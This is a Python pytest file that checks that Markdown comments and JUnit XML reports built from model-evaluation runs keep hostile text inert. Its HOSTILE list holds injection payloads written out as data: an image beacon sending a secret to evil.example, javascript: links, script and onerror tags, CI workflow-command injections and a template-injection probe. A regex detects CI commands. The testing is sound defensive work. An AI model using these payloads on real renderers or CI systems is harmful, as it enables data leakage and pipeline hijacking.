"""Reports for other programs: a comment in which nothing of a hostile answer acts, and JUnit that is XML."""

import re
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree as Xml

import pytest
from markdown_it import MarkdownIt
from tests.unit.arena.arena_sample import ROWS, TOPICS, judged, sample_run, sample_verdict

from genaiops.arena.report import ReportFiles, write_reports
from genaiops.arena.report.inert import fence, span, xml_text
from genaiops.arena.report.junit import render_junit
from genaiops.arena.report.markdown import render_markdown
from genaiops.core import OutsideError

HOSTILE = [
    "![beacon](https://evil.example/b.png?q=secret)",
    "[click](javascript:alert(1)) <img src=x onerror=alert(1)> <script>x</script>",
    "` `` ``` ```` out of the span ![x](https://evil.example)",
    "a | b \\| <img src=x> | ![x](https://evil.example)",
    "@everyone closes #1 and org/repo#2, https://evil.example www.evil.example",
    "::set-output name=x::1",
    "\n::add-mask::x\n  ::error file=a::b\n##[error]no\n##vso[task.setvariable]x\n###[group]",
    "```\n</details>\n# Heading\n- [ ] task\n```\n![x](https://evil.example)",
    "> quote\n~~~\n~~~\n![x](https://evil.example)",
    "\x1b[31mred\x07 \u202eevil\u202c \u2028![x](https://evil.example)\u2029 \x85 \ufffe \udcff",
    "<!-- genaiops-arena qa --> --> <details open>",
    "[[_TOC_]] $`math`$ {{7*7}} &lt;b&gt; [^1]\n\n[^1]: note",
]
COMMANDS = re.compile(r"^\s*::|##\[|##vso\[|##teamcity\[", re.MULTILINE)


def acting(text: str) -> list[str]:
    """Return the tags that a renderer makes of `text`, apart from those that only lay out."""
    page = MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    page = page.replace("<!-- genaiops-arena qa -->", "", 1)
    harmless = r"</?(?:h2|p|strong|code|pre|ul|li|table|thead|tbody|tr|th|td)(?: class=\"language-text\")?>"
    return re.findall(r"<[^>]*>", re.sub(harmless, "", page))


@pytest.mark.proves("B-BAD-REPORT-HOSTILE")
@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_gets_out_of_a_span_in_a_line_or_a_cell_nor_out_of_a_fence(text: str) -> None:
    table = f"| a | b |\n| --- | --- |\n| {span(text, 400)} | {span(text, 400)} |"
    for made in (f"- {span(text, 400)} after", table, fence(text, 400)):
        assert acting(made) == [], made
        assert COMMANDS.search(made) is None, made
    cells = MarkdownIt("commonmark").enable("table").render(table).count("<td>")
    assert cells == 2, "no text opens a cell of its own"


def hostile_run():
    """Return the sample with hostile text in every place that somebody else may write."""
    rows = tuple(
        replace(
            row,
            output=replace(row.output, text=HOSTILE[at % len(HOSTILE)])
            if row.output.text
            else replace(row.output, error=HOSTILE[at % len(HOSTILE)]),
        )
        for at, row in enumerate(ROWS)
    )
    run = sample_run(rows=rows, warnings=tuple(HOSTILE))
    arm = run.arms["candidate"]
    source = replace(arm.source, kind="git ref", ref=HOSTILE[0], overrides=(HOSTILE[3],))
    return replace(
        run, project=HOSTILE[3], arms={**run.arms, "candidate": replace(arm, source=source)}, id=HOSTILE[2]
    )


def hostile_verdict():
    """Return the sample's verdict, its words replaced."""
    verdict = sample_verdict("inconclusive")
    return replace(
        verdict,
        headline=HOSTILE[1],
        suite="qa",
        claims=tuple(
            replace(claim, text=text, note=HOSTILE[5])
            for claim, text in zip(verdict.claims, HOSTILE[2:], strict=False)
        ),
        rules=tuple(replace(rule, rule=HOSTILE[3], facts={HOSTILE[4]: 1.0}) for rule in verdict.rules),
        slices=tuple(
            replace(one, slice=text, scorer=HOSTILE[0], unit=HOSTILE[3])
            for one, text in zip(verdict.slices, HOSTILE, strict=False)
        ),
        notes=tuple(HOSTILE),
    )


@pytest.mark.proves("B-BAD-REPORT-HOSTILE")
@pytest.mark.parametrize("answers", [False, True])
def test_a_comment_over_hostile_text_everywhere_makes_no_image_link_html_or_command(answers: bool) -> None:
    text = render_markdown(hostile_run(), hostile_verdict(), answers=answers)
    assert acting(text) == []
    assert COMMANDS.search(text) is None
    assert len(text) < 65_536


@pytest.mark.proves("B-MARKDOWN")
def test_the_comment_says_the_verdict_first_then_claims_slices_cases_cost_and_evidence() -> None:
    run = sample_run()
    verdict = sample_verdict("inconclusive")
    text = render_markdown(run, verdict)
    order = [
        "<!-- genaiops-arena qa -->",
        "## ? Inconclusive",
        verdict.headline,
        "is better by at least 0.05",
        "-0.275 [-0.393, -0.157]".replace("-", "−"),
        "ratio.cost_usd.mean.high <= 1.15",
        f"topic={TOPICS[1]}",
        "**Newly broken:**",
        "**Newly mended:**",
        "correct answers",
        "64 independent clusters",
        run.id,
    ]
    places = [text.find(part) for part in order]
    assert -1 not in places, order[places.index(-1)]
    assert places == sorted(places)


@pytest.mark.proves("B-MARKDOWN")
def test_broken_and_mended_cases_are_named_and_answers_only_shown_when_asked_for() -> None:
    run = sample_run()
    verdict, _ = judged(run)
    plain, full = render_markdown(run, verdict), render_markdown(run, verdict, answers=True)
    broken = plain.partition("**Newly broken:**")[2].partition("**Newly mended:**")[0]
    assert "`q00`" in broken
    assert "`q02`" in plain.partition("**Newly mended:**")[2]
    secret = "as is widely known"
    assert secret not in plain
    assert secret in full
    assert "```text\n> " in full


@pytest.mark.proves("B-JUNIT")
@pytest.mark.parametrize(
    ("outcome", "inconclusive", "failures", "skipped"),
    [
        ("pass", None, 0, 0),
        ("inconclusive", None, 0, 2),
        ("inconclusive", "pass", 0, 2),
        ("inconclusive", "fail", 2, 0),
        ("fail", None, 1, 1),
    ],
)
def test_a_claim_and_a_rule_are_a_test_case_each_and_what_is_open_is_skipped_or_fails(
    outcome: str, inconclusive, failures: int, skipped: int
) -> None:
    run, verdict = sample_run(), sample_verdict(outcome)
    root = Xml.fromstring(render_junit(run, verdict, inconclusive=inconclusive))
    suite = root.find("testsuite")
    assert suite is not None
    names = [case.get("name") for case in suite.iter("testcase")]
    assert names == [
        "claim: wrong_answers is better by at least 0.05",
        "claim: answer_f1 is not worse by more than 0.05",
        "claim: answer_f1 is at least 0.7",
        "rule: ratio.cost_usd.mean.high <= 1.15",
        "verdict",
    ]
    counts = (len(root.findall(".//failure")), len(root.findall(".//skipped")))
    assert counts == (failures, skipped)
    for element in (root, suite):
        stated = tuple(element.get(key) for key in ("tests", "failures", "errors", "skipped", "time"))
        assert stated == ("5", str(failures), "0", str(skipped), "81")


@pytest.mark.proves("B-JUNIT")
def test_claims_that_are_all_proven_are_not_green_where_the_gate_changed() -> None:
    proven = sample_verdict("pass")
    held = replace(proven, outcome="inconclusive", gate_changed=True)
    root = Xml.fromstring(render_junit(sample_run(), held, inconclusive="fail"))
    failed = [case.get("name") for case in root.iter("testcase") if case.find("failure") is not None]
    assert failed == ["verdict"]


@pytest.mark.proves("B-BAD-REPORT-XML")
def test_characters_that_xml_does_not_allow_are_left_out_and_the_rest_survives() -> None:
    every = "".join(map(chr, [*range(0x20), *range(0x7F, 0xA0), 0xD800, 0xDFFF, 0xFFFE, 0xFFFF]))
    assert "".join(xml_text(f"a{every}b").split()) == "ab"
    text = render_junit(hostile_run(), hostile_verdict())
    root = Xml.fromstring(text)
    assert len(root.findall(".//testcase")) == 5
    assert COMMANDS.search(text) is None
    assert "<script" not in text
    Xml.fromstring(render_junit(sample_run(project=every), replace(sample_verdict(), headline=every)))


@pytest.mark.proves("B-MARKDOWN", "B-JUNIT")
def test_files_are_written_whole_and_a_folder_that_is_not_there_is_one_message(tmp_path: Path) -> None:
    run, verdict = sample_run(), sample_verdict()
    files = ReportFiles(markdown=tmp_path / "c.md", junit=tmp_path / "j.xml")
    write_reports(run, verdict, files)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["c.md", "j.xml"]
    with pytest.raises(OutsideError, match="cannot be written"):
        write_reports(run, verdict, ReportFiles(markdown=tmp_path / "no" / "c.md"))
